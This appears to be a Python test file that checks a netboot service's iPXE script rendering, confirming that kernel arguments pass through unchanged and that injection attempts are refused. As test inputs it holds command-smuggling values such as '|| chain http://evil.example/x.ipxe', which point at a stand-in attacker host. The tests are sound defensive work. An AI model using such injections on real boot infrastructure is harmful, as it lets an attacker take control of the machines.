"""Kernel arguments of a spec reach the kernel as they are written, or are refused: scripts of iPXE know no quoting."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError

from bessemer.api.clusterbuild.spec import KernelArgument
from bessemer.machines.netboot.bootd import render_script

ARGUMENT: TypeAdapter[str] = TypeAdapter(KernelArgument)
ENTRY: dict[str, Any] = {"server": "http://10.0.0.1:8099", "token": "t", "mac": "52-54-00-00-00-01", "initrds": ["a"]}


def read_as_ipxe(line: str) -> list[str]:
    """Return the words of the first command of a line. Source: core/exec.c of iPXE."""
    assert "${" not in line
    words = line.split()
    ends = (at for at, word in enumerate(words) if word in ("||", "&&", ";") or word.startswith("#"))
    return words[: next(ends, len(words))]


def is_taken(text: str) -> bool:
    try:
        return ARGUMENT.validate_python(text) == text
    except ValidationError:
        return False


@given(st.lists(st.text(st.sampled_from("|&;#${}'\"=a.-\\ \n"), max_size=8), max_size=6))
@example(["||", "chain", "http://evil.example/x.ipxe"])
@example([";", "chain", "http://evil.example/x.ipxe"])
@example(["#", "quiet"])
@example(["console=${net0/mac}"])
@example(["ds=nocloud;s=http://a/", 'dyndbg="file', "a.c", '+p"'])
def test_what_is_taken_is_what_the_kernel_gets(arguments: list[str]) -> None:
    taken = [text for text in arguments if is_taken(text)]
    script = render_script(ENTRY | {"arguments": taken})
    kernel = next(line for line in script.splitlines() if line.startswith("kernel "))
    words = read_as_ipxe(kernel)
    assert words[len(words) - len(taken) :] == taken
    assert kernel.endswith(" || goto failed")


@pytest.mark.parametrize(
    "text",
    ["||", "a||b", "&&", ";", "#x", "${x}", "a${x}", "bessemer.node=http://evil.example", "initrd=x", "BOOTIF=01-00"],
)
def test_what_ipxe_or_bessemer_would_take_for_its_own_is_refused(text: str) -> None:
    assert not is_taken(text)


@pytest.mark.parametrize("text", ["console=ttyS0,115200n8", "ds=nocloud;s=http://a/", "a#b", "$x", "a&b", "a|b", "--"])
def test_what_only_looks_like_that_is_taken(text: str) -> None:
    assert is_taken(text)
